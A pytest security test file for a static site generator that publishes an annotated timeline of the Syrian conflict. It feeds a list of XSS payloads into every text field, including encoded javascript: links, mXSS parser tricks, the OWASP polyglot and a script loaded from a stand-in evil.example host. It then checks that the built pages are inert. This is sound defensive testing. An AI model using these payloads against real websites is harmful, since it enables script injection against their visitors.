"""Security: whatever strangers put in the plain-text fields, the built site is inert.

Every payload below goes into every plain-text field of the small fixture (event title, figure
label and unit, web source title and publisher, actor name, aliases and link titles, location
name, aliases and link titles, seed title and publisher, and the seed's verbatim text, quoted by
an event). The site is built for real, then every HTML file is read with html5lib, a parser that
follows the HTML standard as browsers do, and anything a browser would run is a failure:

- a <script> that is not one of Material's own (the same files and inline scripts as a clean
  build of the same fixture),
- any on* attribute,
- a javascript:, vbscript: or data: address in href, src, action, formaction, data,
  xlink:href (and the other URL attributes), after entity decoding and the stripping of
  whitespace and control characters that browsers do,
- <iframe>, <frame>, <object>, <embed>, <applet>, <base>, <meta http-equiv>, a <form> other than
  Material's search form, a <style> element, a style attribute with expression(), url(),
  javascript:, behavior or -moz-binding.

Then the payloads must be there as text: in the page's <h1>, its <title>, the header, the
search index (Material renders its titles as HTML) and nowhere as markup; the sitemap holds
only the site's own addresses. The benign "Rebels < 10 km from Hama & advancing" reads as
written.

Markdown fields refuse raw HTML and foreign links at load time; that is tested by the golden
cases (tests/cases/check/security-*.yml) and tests/test_security_markdown.py.
"""

from __future__ import annotations

import html
import json
import posixpath
import re
import xml.etree.ElementTree as ElementTree
from pathlib import Path
from collections.abc import Iterator

import html5lib
import pytest

from conftest import ROOT, Built, build, site_project
from searchfiles import documents

SITE_NAME = "Syria, late 2024: an annotated timeline"
BENIGN = "Rebels < 10 km from Hama & advancing"

POLYGLOT = (  # the OWASP XSS filter evasion cheat sheet's polyglot
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/"
    "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e"
)

PAYLOADS = [
    # script elements and event handlers
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    "<svg/onload=alert(1)>",
    # javascript:, vbscript: and data: addresses, entity-encoded and mixed-case
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">e</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">hex</a>',
    '<a href="JaVaScRiPt:alert(1)">mixed</a>',
    '<a href=" java&#x09;script:alert(1)">tab</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    # breaking out of the surrounding context
    "</title><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</textarea></noscript></style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    # CSS
    '<p style="background:url(javascript:alert(1))">css</p>',
    "<style>*{x:expression(alert(1))}</style>",
    '<div style="behavior:url(x.htc);-moz-binding:url(x.xml#x)">b</div>',
    # frames, forms, redirects, base
    '<iframe src="javascript:alert(1)"></iframe>',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    # parser confusion (mXSS)
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    # Markdown and template syntax in plain-text fields
    "{onclick=alert(1)}",
    'Title {: onclick="alert(1)" }',
    "[click](javascript:alert(1)) <javascript:alert(1)>",
    "{{ 7*7 }} {% raw %} ${alert(1)} #{7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;",
    POLYGLOT,
    BENIGN,
]


# --- the fixture with payloads ----------------------------------------------------------------

def _y(text: str) -> str:
    """A YAML double-quoted scalar (JSON strings are YAML)."""
    return json.dumps(text, ensure_ascii=False)


def payload_files() -> dict[str, str]:
    files: dict[str, str] = {}
    seed_text = "\n".join(PAYLOADS) + "\n"
    for n, payload in enumerate(PAYLOADS, start=1):
        key = f"p{n:02d}"
        unit = f"\n    unit: {_y(payload)}" if len(payload) <= 40 else ""
        files[f"events/2024-12-{n % 28 + 1:02d}-payload-{key}.yml"] = f"""title: {_y(payload)}
date: 2024-12-{n % 28 + 1:02d}
type: battle
summary: Something happened to [the actor](actor:actor-{key}) at [the place](location:place-{key}).
actors: [actor-{key}, rebels]
locations: [place-{key}]
figures:
  - label: {_y(payload)}
    value: 1{unit}
    source: 1
sources:
  - seed: seed-{key}
    quote: {_y(payload)}
  - url: https://example.org/{key}
    title: {_y(payload)}
    publisher: {_y(payload)}
"""
        files[f"docs/actors/actor-{key}.md"] = f"""---
name: {_y(payload)}
kind: person
aliases: [{_y(payload)}, {_y("also " + payload)}]
relations:
  - type: opposes
    actor: rebels
    source: {{url: "https://example.org/r/{key}", title: {_y(payload)}, publisher: {_y(payload)}}}
links:
  - {{title: {_y(payload)}, url: "https://example.org/a/{key}"}}
---
"""
        files[f"docs/locations/place-{key}.md"] = f"""---
name: {_y(payload)}
kind: region
aliases: [{_y(payload)}]
part_of: landia
links:
  - {{title: {_y(payload)}, url: "https://example.org/l/{key}"}}
---
"""
        files[f"seeds/seed-{key}.md"] = f"""---
title: {_y(payload)}
published: 2024-12-03
publisher: {_y(payload)}
---
{seed_text}"""
    # The benign sentence also in Markdown fields, where '<' and '&' are written as they are.
    files["events/2024-12-20-benign.yml"] = f"""title: {_y(BENIGN)}
date: 2024-12-20
type: battle
summary: {_y(BENIGN + ". More follows.")}
actors: [rebels]
sources:
  - seed: report
    quote: Rebels captured the town
annotations:
  - {_y(BENIGN)}
"""
    return files


@pytest.fixture(scope="module")
def clean_site(tmp_path_factory: pytest.TempPathFactory) -> Built:
    built = build(site_project(tmp_path_factory.mktemp("clean"), data="mini"))
    assert built.returncode == 0, built.output
    return built


SITE_URL = "https://example.org/timeline/"


@pytest.fixture(scope="module")
def payload_site(tmp_path_factory: pytest.TempPathFactory) -> Built:
    # With a site_url, so that the sitemap lists the pages (it is empty without one).
    project = site_project(tmp_path_factory.mktemp("payloads"), data="mini", files=payload_files())
    built = build(project, env={"TIMELINE_SITE_URL": SITE_URL})
    assert built.returncode == 0, built.output
    return built


# --- reading HTML as a browser does -----------------------------------------------------------

URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "data", "xlink:href", "srcset", "poster", "background",
    "lowsrc", "dynsrc", "ping", "codebase", "cite", "longdesc", "manifest", "icon", "usemap",
    "archive", "classid", "profile", "imagesrcset",
}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:", "mocha:")
FORBIDDEN_ELEMENTS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base"}
BAD_CSS = re.compile(r"expression\s*\(|url\s*\(|javascript:|behavior\s*:|-moz-binding|@import", re.I)
_CONTROL_OR_SPACE = re.compile(r"[\x00-\x20\x7f]+")


def parse(text: str | bytes):
    return html5lib.parse(text, treebuilder="etree", namespaceHTMLElements=False)


def parse_fragment(text: str):
    return html5lib.parseFragment(text, treebuilder="etree", namespaceHTMLElements=False)


def local(name: str) -> str:
    """'{http://www.w3.org/1999/xlink}href' -> 'xlink:href', '{svg-ns}a' -> 'a'."""
    if name.startswith("{http://www.w3.org/1999/xlink}"):
        return "xlink:" + name.split("}", 1)[1]
    return name.split("}", 1)[1] if name.startswith("{") else name


def url_scheme_is_bad(value: str) -> bool:
    """As a browser reads an address: entities are already decoded by the parser; leading and
    trailing C0 controls and spaces are stripped, tabs and newlines inside are removed."""
    cleaned = _CONTROL_OR_SPACE.sub("", value).lower()
    return cleaned.startswith(BAD_SCHEMES)


def normalise_root(text: str) -> str:
    """Material's inline scripts name the page's path to the site root; make them comparable."""
    root = r"(?:/timeline/|[./]*)"  # relative, or the site's path on the 404 page
    text = re.sub(rf'new URL\("{root}",location\)', "new URL(ROOT,location)", text)
    text = re.sub(rf'"base": "{root}"', '"base": ROOT', text)
    return re.sub(rf'"search": "{root}assets/', '"search": "ROOT/assets/', text)


def elements(root) -> Iterator:
    for element in root.iter():
        if isinstance(element.tag, str):
            yield element


def inline_scripts(site: Path) -> set[str]:
    found = set()
    for page in site.rglob("*.html"):
        for element in elements(parse(page.read_bytes())):
            if local(element.tag) == "script" and not element.get("src"):
                found.add(normalise_root(element.text or ""))
    return found


def material_forms(site: Path) -> set[tuple]:
    found = set()
    for page in site.rglob("*.html"):
        for element in elements(parse(page.read_bytes())):
            if local(element.tag) == "form":
                found.add(tuple(sorted(element.attrib.items())))
    return found


def dangers(root, page: str, site: Path | None, scripts: set[str], forms: set[tuple]) -> list[str]:
    """Everything in a parsed document or fragment that a browser would execute or follow."""
    found = []
    for element in elements(root):
        tag = local(element.tag)
        where = f"{page}: <{tag}>"
        if tag == "script":
            src = element.get("src")
            if src is not None:
                target = posixpath.normpath(posixpath.join(posixpath.dirname(page), src))
                target = re.sub(r"^/(?:timeline/)?", "", target)  # the 404 page's absolute paths
                # Material's scripts, and our own (docs/assets/js/, shipped with the site).
                if not (target.startswith(("assets/javascripts/", "assets/js/")) and site and (site / target).is_file()):
                    found.append(f"{where} loads {src!r}")
            elif normalise_root(element.text or "") not in scripts:
                found.append(f"{where} runs {(element.text or '')[:80]!r}")
        if tag in FORBIDDEN_ELEMENTS:
            found.append(where)
        if tag == "form" and tuple(sorted(element.attrib.items())) not in forms:
            found.append(f"{where} {dict(element.attrib)}")
        if tag == "meta" and element.get("http-equiv") is not None:
            found.append(f"{where} http-equiv={element.get('http-equiv')!r}")
        if tag == "style":
            found.append(f"{where} {(element.text or '')[:80]!r}")
        for name, value in element.attrib.items():
            attribute = local(name).lower()
            if attribute.startswith("on"):
                found.append(f"{where} has {attribute}={value[:60]!r}")
            if attribute in URL_ATTRIBUTES and url_scheme_is_bad(value):
                found.append(f"{where} has {attribute}={value[:60]!r}")
            if attribute == "style" and BAD_CSS.search(value):
                found.append(f"{where} has style={value[:60]!r}")
    return found


def scan_site(site: Path, scripts: set[str], forms: set[tuple]) -> list[str]:
    problems = []
    for page in sorted(site.rglob("*.html")):
        relative = page.relative_to(site).as_posix()
        problems += dangers(parse(page.read_bytes()), relative, site, scripts, forms)
    return problems


def text_of(element) -> str:
    return "".join(element.itertext())


def find_all(root, tag: str, cls: str | None = None) -> list:
    return [
        e for e in elements(root)
        if local(e.tag) == tag and (cls is None or cls in (e.get("class") or "").split())
    ]


# --- the scanner finds what it should ---------------------------------------------------------

@pytest.mark.parametrize("bad", [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" JaVa&#x09;ScRiPt:alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '<img src="data:image/png;base64,AAAA">',
    '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
    "<iframe src=x></iframe>",
    '<form action="https://evil.example/"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    "<style>*{}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<button formaction="javascript:alert(1)">x</button>',
])
def test_scanner_catches_each_payload_class(bad: str) -> None:
    assert dangers(parse_fragment(bad), "x.html", None, set(), set())


def test_scanner_accepts_inert_text() -> None:
    safe = "&lt;script&gt;alert(1)&lt;/script&gt; <a href=\"https://example.org/\">x</a> " \
           "<code>&lt;img onerror=x&gt;</code> javascript:alert(1)"
    assert dangers(parse_fragment(safe), "x.html", None, set(), set()) == []


# --- the payload site -------------------------------------------------------------------------

def test_clean_site_is_inert(clean_site: Built) -> None:
    scripts, forms = inline_scripts(clean_site.site), material_forms(clean_site.site)
    # Material's own: its scope, palette, tab and configuration scripts, and the palette and
    # search forms, as inspected in a clean build; and the timeline's filter form. No form
    # has an action: none sends anything anywhere.
    assert len(scripts) == 4 and len(forms) == 3
    assert not [form for form in forms if "action" in dict(form)]
    assert any(dict(form).get("class") == "tl-filters" for form in forms)
    assert scan_site(clean_site.site, scripts, forms) == []


# Elements and attributes a browser fetches without the reader clicking anything.
FETCHED = {("link", "href"), ("script", "src"), ("img", "src"), ("img", "srcset"), ("source", "src"),
           ("source", "srcset"), ("video", "src"), ("video", "poster"), ("audio", "src"),
           ("iframe", "src"), ("embed", "src"), ("object", "data"), ("input", "src"),
           ("image", "href"), ("use", "href"), ("image", "xlink:href"), ("use", "xlink:href")}


def test_pages_load_nothing_from_other_hosts(payload_site: Built) -> None:
    """Readers of a conflict timeline may be at risk: opening a page contacts no other host
    (links the reader follows are another matter)."""
    found = []
    for page in payload_site.site.rglob("*.html"):
        for element in elements(parse(page.read_bytes())):
            tag = local(element.tag)
            if tag == "link" and (element.get("rel") or "") in ("next", "prev", "canonical"):
                continue  # not fetched
            for name, value in element.attrib.items():
                if (tag, local(name)) in FETCHED and re.match(r"\s*(?:[a-z][a-z0-9+.-]*:|//)", value, re.I):
                    found.append(f"{page.relative_to(payload_site.site)}: <{tag} {local(name)}={value!r}>")
    assert found == []


def test_payload_site_has_nothing_a_browser_would_run(clean_site: Built, payload_site: Built) -> None:
    scripts, forms = inline_scripts(clean_site.site), material_forms(clean_site.site)
    pages = list(payload_site.site.rglob("*.html"))
    assert len(pages) >= 4 * len(PAYLOADS)  # an event, actor, location and source page each
    assert scan_site(payload_site.site, scripts, forms) == []


def test_payloads_are_the_text_of_event_pages(payload_site: Built) -> None:
    for n, payload in enumerate(PAYLOADS, start=1):
        url = f"events/2024-12-{n % 28 + 1:02d}-payload-p{n:02d}/"
        root = parse(payload_site.page(url))
        assert text_of(find_all(root, "title")[0]) == f"{payload} - {SITE_NAME}"
        assert [text_of(h) for h in find_all(root, "h1")] == [payload]
        header = find_all(root, "div", "md-header__topic")[-1]
        assert payload in text_of(header)
        labels = [text_of(td) for td in find_all(root, "td")]
        assert payload in labels  # the figure's label
        quotes = [text_of(q) for q in find_all(root, "blockquote", "tl-quote")]
        assert quotes == [f"“{payload}”"]
        links = {text_of(a) for a in find_all(root, "a")}
        assert payload in links  # the web source's title
        assert payload in {text_of(s) for s in find_all(root, "span", "tl-publisher")}


def test_payloads_are_the_text_of_actor_location_and_source_pages(payload_site: Built) -> None:
    for n, payload in enumerate(PAYLOADS, start=1):
        key = f"p{n:02d}"
        actor = parse(payload_site.page(f"actors/actor-{key}/"))
        assert [text_of(h) for h in find_all(actor, "h1")] == [payload]
        assert text_of(find_all(actor, "title")[0]) == f"{payload} - {SITE_NAME}"
        aliases = [text_of(s) for s in find_all(actor, "span", "tl-alias")]
        assert aliases == [payload, "also " + payload]
        location = parse(payload_site.page(f"locations/place-{key}/"))
        assert [text_of(h) for h in find_all(location, "h1")] == [payload]
        assert [text_of(s) for s in find_all(location, "span", "tl-alias")] == [payload]
        source = parse(payload_site.page(f"sources/seed-{key}/"))
        assert [text_of(h) for h in find_all(source, "h1")] == [payload]
        document = find_all(source, "div", "tl-document")[0]
        lines = [text_of(p) for p in find_all(document, "p")]
        # each paragraph is a line of the seed, with the citation numbers after quoted ones
        assert [re.sub(r"(\[\d+\])+$", "", line) for line in lines] == PAYLOADS


def test_search_index_holds_payloads_as_escaped_text(clean_site: Built, payload_site: Built) -> None:
    """Material's search shows titles and text from the index as HTML."""
    scripts, forms = inline_scripts(clean_site.site), material_forms(clean_site.site)
    problems = []
    titles = {}
    for doc in documents(payload_site.site):
        for field in ("title", "text"):
            problems += dangers(parse_fragment(doc[field]), f"search index {doc['location']} {field}",
                                None, scripts, forms)
        titles[doc["location"]] = doc["title"]
    assert problems == []
    for n, payload in enumerate(PAYLOADS, start=1):
        title = titles[f"events/2024-12-{n % 28 + 1:02d}-payload-p{n:02d}/"]
        fragment = parse_fragment(title)
        assert list(elements(fragment))[1:] == []  # no element: only text
        assert text_of(fragment) == payload


def test_sitemap_holds_only_the_sites_addresses(payload_site: Built) -> None:
    tree = ElementTree.parse(payload_site.site / "sitemap.xml")
    locations = [e.text or "" for e in tree.iter() if e.tag.endswith("}loc")]
    assert locations
    assert len(locations) >= 4 * len(PAYLOADS)
    for location in locations:
        assert location.startswith(SITE_URL), location
        assert re.fullmatch(r"(?:[a-z0-9-]+/)*", location[len(SITE_URL):]), location


def test_nav_lists_only_fixed_titles(clean_site: Built, payload_site: Built) -> None:
    """The navigation (pages and the home page's table of contents) is the same as a clean
    build's, event counts aside: no contributor's text reaches it."""
    def labels(built: Built) -> list[str]:
        root = parse(built.page(""))
        return [re.sub(r"[0-9]+", "N", text_of(a).strip()) for a in find_all(root, "a", "md-nav__link")]

    assert labels(payload_site) == labels(clean_site)
    assert {"Timeline", "Actors", "Locations", "Sources", "About", "Data format", "Security"} <= set(
        labels(payload_site)
    )


def test_timeline_shows_payload_titles_as_text(payload_site: Built) -> None:
    root = parse(payload_site.page(""))
    titles = [text_of(p) for p in find_all(root, "p", "tl-entry__title")]
    for payload in PAYLOADS:
        assert payload in titles


# --- the benign sentence ----------------------------------------------------------------------

def test_benign_text_reads_as_written(payload_site: Built) -> None:
    page = payload_site.page("events/2024-12-20-benign/")
    escaped = "Rebels &lt; 10 km from Hama &amp; advancing"
    assert f"<h1>{escaped}</h1>" in page
    assert f"<title>{escaped} - " in page
    assert f"<p>{escaped}. More follows.</p>" in page  # the summary, rendered from Markdown
    assert f"<li id=\"note-1\"><p>{escaped}</p></li>" in page  # the annotation
    root = parse(page)
    assert [text_of(h) for h in find_all(root, "h1")] == [BENIGN]
    assert text_of(find_all(root, "title")[0]) == f"{BENIGN} - {SITE_NAME}"
    description = [m.get("content") for m in find_all(root, "meta") if m.get("name") == "description"]
    assert description == [f"20 Dec 2024: {BENIGN}."]
    assert "&amp;lt;" not in page and "&amp;amp;" not in page  # never escaped twice
    timeline = parse(payload_site.page(""))
    summaries = [text_of(p) for p in find_all(timeline, "p", "tl-entry__summary")]
    assert f"{BENIGN}." in summaries


def test_benign_text_in_search_index(payload_site: Built) -> None:
    doc = next(d for d in documents(payload_site.site) if d["location"] == "events/2024-12-20-benign/")
    assert text_of(parse_fragment(doc["title"])) == BENIGN
    assert BENIGN in html.unescape(re.sub(r"<[^>]+>", "", doc["text"]))


# --- the preview's problem page ------------------------------------------------------------------

def test_problem_page_is_inert() -> None:
    """Under `mkdocs serve`, broken data shows its problems in the page; they quote file names
    and values."""
    from timeline_core.reading.problems import Problem
    from timeline_core.site.render import render_problems

    problems = [Problem(f"events/{p}.yml", 1, 1, f"file name {p!r} is not a valid id: {p}") for p in PAYLOADS]
    page = render_problems(ROOT / "overrides" / "timeline", problems)
    assert dangers(parse_fragment(page), "problems", None, set(), set()) == []
    items = [text_of(code) for code in find_all(parse_fragment(page), "code")]
    assert [f"events/{p}.yml:1:1" for p in PAYLOADS] == items[1:]  # after "make check"
